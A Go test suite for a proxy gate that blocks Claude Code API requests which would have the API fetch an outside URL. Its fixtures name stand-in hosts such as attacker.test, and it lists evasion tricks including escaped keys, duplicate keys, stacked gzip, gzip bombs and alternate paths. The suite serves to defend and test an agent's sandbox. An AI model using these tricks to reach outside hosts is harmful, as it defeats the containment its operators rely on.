package main

import (
	"bytes"
	"compress/gzip"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

// What Claude Code sends (the shape of the pinned version's requests): none of it is refused.
const claudeCodeRequest = `{"model":"claude-sonnet-4-5","max_tokens":32000,"stream":true,
 "system":[{"type":"text","text":"You are Claude Code. The config key mcp_servers and {\"type\":\"url\"} are text here."}],
 "tools":[{"name":"WebFetch","description":"Fetches a URL","input_schema":{"type":"object",
   "properties":{"url":{"type":"string","format":"uri"},"mcp_servers":{"type":"url"}}}},
  {"type":"web_search_20250305","name":"web_search","max_uses":8}],
 "messages":[{"role":"user","content":[{"type":"text","text":"fetch https://example.com"},
   {"type":"image","source":{"type":"base64","media_type":"image/png","data":"iVBORw0KGgo="}}]},
  {"role":"assistant","content":[{"type":"tool_use","id":"t1","name":"mcp__docs__get",
   "input":{"type":"url","url":"https://example.com","mcp_servers":[]}}]},
  {"role":"user","content":[{"type":"tool_result","tool_use_id":"t1","content":[{"type":"text","text":"ok"}]}]}],
 "metadata":{"user_id":"u"}}`

func apiRequest(body string, header ...string) *http.Request {
	r := httptest.NewRequest("POST", "https://api.anthropic.com/v1/messages?beta=true", strings.NewReader(body))
	for i := 0; i+1 < len(header); i += 2 {
		r.Header.Add(header[i], header[i+1])
	}
	return r
}

func TestWhatClaudeCodeSendsIsNotRefusedAndGoesOnWhole(t *testing.T) {
	r := apiRequest(claudeCodeRequest, "Anthropic-Beta", "claude-code-20250219,interleaved-thinking-2025-05-14")
	if why := refusedFetch(r); why != "" {
		t.Fatalf("refused: %s", why)
	}
	forwarded, _ := io.ReadAll(r.Body)
	if string(forwarded) != claudeCodeRequest {
		t.Errorf("the body forwarded is not the body sent")
	}
	for _, body := range []string{"", "{}", `{"messages":[]}`} {
		if why := refusedFetch(apiRequest(body)); why != "" {
			t.Errorf("%q refused: %s", body, why)
		}
	}
}

// Each way the API can be asked to reach a URL the request names, wherever it is put.
func TestARequestThatWouldHaveTheAPIFetchAURLIsRefused(t *testing.T) {
	for name, body := range map[string]string{
		"the MCP connector":     `{"messages":[],"mcp_servers":[{"type":"url","url":"https://attacker.test/sse","name":"x"}]}`,
		"mcp_servers, empty":    `{"messages":[],"mcp_servers":null}`,
		"an MCP toolset":        `{"messages":[],"tools":[{"type":"mcp_toolset","mcp_server_name":"x"}]}`,
		"web fetch":             `{"messages":[],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`,
		"a later web fetch":     `{"messages":[],"tools":[{"type":"web_fetch_20990101","name":"web_fetch"}]}`,
		"an image from a URL":   `{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://attacker.test/?s=x"}}]}]}`,
		"a document from a URL": `{"messages":[{"role":"user","content":[{"type":"document","source":{"type":"url","url":"https://attacker.test/a.pdf"}}]}]}`,
		"in a tool result": `{"messages":[{"role":"user","content":[{"type":"tool_result","tool_use_id":"t",
			"content":[{"type":"image","source":{"type":"url","url":"https://attacker.test/"}}]}]}]}`,
		"in the system prompt":                    `{"system":[{"type":"document","source":{"type":"url","url":"https://attacker.test/"}}],"messages":[]}`,
		"in a batch":                              `{"requests":[{"custom_id":"a","params":{"messages":[],"mcp_servers":[{"url":"https://attacker.test/"}]}}]}`,
		"a key spelt with an escape":              `{"messages":[],"mcp\u005fservers":[{"url":"https://attacker.test/"}]}`,
		"a type spelt with an escape":             `{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"\u0075rl","url":"https://a.test/"}}]}]}`,
		"a duplicate key, the last one fetching":  `{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","type":"url","url":"https://a.test/"}}]}]}`,
		"a duplicate key, the first one fetching": `{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://a.test/","type":"base64"}}]}]}`,
		"a duplicate key, deep in":                `{"messages":[{"role":"user","content":[{"type":"text","text":"a","text":"b"}]}]}`,
		"not JSON":                                `{"messages":[],"mcp_servers":[{"url":"https://attacker.test/"}],}`,
		"two JSON documents":                      `{"messages":[]} {"mcp_servers":[]}`,
		"a closing bracket after it":              `{"messages":[]}]{"mcp_servers":[]}`,
		"a brace after it":                        `{"messages":[]}}`,
	} {
		if why := refusedFetch(apiRequest(body)); why == "" {
			t.Errorf("%s: not refused", name)
		}
	}
	for _, beta := range []string{"mcp-client-2025-04-04", "claude-code-20250219, web-fetch-2025-09-10", "MCP-Client-2099"} {
		if why := refusedFetch(apiRequest("{}", "Anthropic-Beta", beta)); why == "" {
			t.Errorf("beta %q: not refused", beta)
		}
	}
}

func gzipped(t *testing.T, s string) string {
	t.Helper()
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	w.Write([]byte(s))
	w.Close()
	return b.String()
}

// Claude Code can gzip its requests: the gate reads through that, forwards the body as it came, and refuses
// what it cannot read.
func TestACompressedRequestIsReadThroughItsCompression(t *testing.T) {
	bad := gzipped(t, `{"messages":[],"mcp_servers":[{"url":"https://attacker.test/"}]}`)
	if why := refusedFetch(apiRequest(bad, "Content-Encoding", "gzip")); why == "" {
		t.Error("gzipped: not refused")
	}
	if why := refusedFetch(apiRequest(gzipped(t, bad), "Content-Encoding", "gzip", "Content-Encoding", "gzip")); why == "" {
		t.Error("gzipped twice: not refused")
	}
	good := gzipped(t, claudeCodeRequest)
	r := apiRequest(good, "Content-Encoding", "gzip")
	if why := refusedFetch(r); why != "" {
		t.Errorf("gzipped, fine: refused: %s", why)
	}
	if forwarded, _ := io.ReadAll(r.Body); string(forwarded) != good {
		t.Error("the gzipped body forwarded is not the one sent")
	}
	for _, coding := range []string{"br", "zstd", "deflate"} {
		if why := refusedFetch(apiRequest(claudeCodeRequest, "Content-Encoding", coding)); !strings.Contains(why, coding) {
			t.Errorf("%s: %q", coding, why)
		}
	}
	if why := refusedFetch(apiRequest("not gzip", "Content-Encoding", "gzip")); why == "" {
		t.Error("a body that is not the gzip it says: not refused")
	}
	for name, trailing := range map[string]string{"JSON": `{"mcp_servers":[]}`, "zeros": "\x00\x00\x00\x00"} {
		if why := refusedFetch(apiRequest(gzipped(t, claudeCodeRequest)+trailing, "Content-Encoding", "gzip")); why == "" {
			t.Errorf("gzip with %s after it: not refused", name)
		}
	}
	// A small body that unpacks past what the API takes is not unpacked further.
	huge := gzipped(t, `{"pad":"`+strings.Repeat("x", maxAPIRequest)+`"}`)
	if why := refusedFetch(apiRequest(huge, "Content-Encoding", "gzip")); !strings.Contains(why, "MiB") {
		t.Errorf("a gzip bomb: %q", why)
	}
}

func TestDuplicateKeysAreFoundInEveryObjectAndOnlyThere(t *testing.T) {
	for document, want := range map[string]string{
		`{"a":1,"b":{"a":2},"c":[{"a":3},{"a":4}]}`: "",
		`{"a":[1,{"b":2}],"a":0}`:                   "a",
		`[{"x":1},{"y":[{"z":1,"z":2}]}]`:           "z",
		`{"a":{"b":1},"c":{"b":1,"d":{},"d":[]}}`:   "d",
		`{"k":"v","v":"k"}`:                         "",
		claudeCodeRequest:                           "",
	} {
		if got := duplicateKey([]byte(document)); got != want {
			t.Errorf("%s: %q, want %q", document, got, want)
		}
	}
}

// Found by attacking it: only /v1/ paths were read, and a gateway serves the Messages API under any prefix, or
// takes another spelling of its path for it. Every path is read.
func TestEveryPathIsRead(t *testing.T) {
	bad := `{"messages":[],"mcp_servers":[{"type":"url","url":"https://attacker.test/"}]}`
	for _, path := range []string{"/gw/v1/messages", "//v1/messages", "/V1/messages", "/v1;/messages", "/messages",
		"/anthropic/v1/messages", "/api/claude_code/x"} {
		r := httptest.NewRequest("POST", "http://gateway.test/", strings.NewReader(bad))
		r.URL.Path = path
		if why := refusedFetch(r); why == "" {
			t.Errorf("%s: not refused", path)
		}
	}
	r := httptest.NewRequest("POST", "https://api.anthropic.com/api/event_logging/batch", strings.NewReader(`{"events":[]}`))
	if why := refusedFetch(r); why != "" {
		t.Errorf("an ordinary body elsewhere refused: %s", why)
	}
}

// Through the gate: the API never sees the request, the report says why, and Claude Code's requests go on.
func TestTheGateRefusesAFetchingRequestBeforeTheTokenIsAdded(t *testing.T) {
	var seen []string
	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		seen = append(seen, r.Header.Get("Authorization")+" "+string(body))
	}))
	defer upstream.Close()
	host, port := splitURL(t, upstream.URL)
	cfg := &Config{Credentials: []CredentialHost{{Host: host, Port: port, Paths: []string{"/v1/messages"}, Inject: true}},
		PrivatePorts: map[string][]string{host: {}}, Token: "real", Placeholder: "placeholder"}
	c := newCounter(nil)
	g := newGate(cfg, nil, c, nil)
	send := func(body string) int {
		r := httptest.NewRequest("POST", upstream.URL+"/v1/messages", strings.NewReader(body))
		r.Header.Set("Authorization", "Bearer placeholder")
		w := httptest.NewRecorder()
		g.forwardPlain(w, r)
		return w.Code
	}
	if code := send(`{"messages":[],"mcp_servers":[{"type":"url","url":"https://attacker.test/"}]}`); code != http.StatusForbidden {
		t.Errorf("status %d, want 403", code)
	}
	if len(seen) != 0 {
		t.Fatalf("the API got %q", seen)
	}
	if code := send(claudeCodeRequest); code != http.StatusOK || len(seen) != 1 || seen[0] != "Bearer real "+claudeCodeRequest {
		t.Errorf("Claude Code's request: status %d, the API got %q", code, seen)
	}
	if report := string(c.snapshot()); !strings.Contains(report, "mcp_servers") {
		t.Errorf("the report does not say why: %s", report)
	}
}
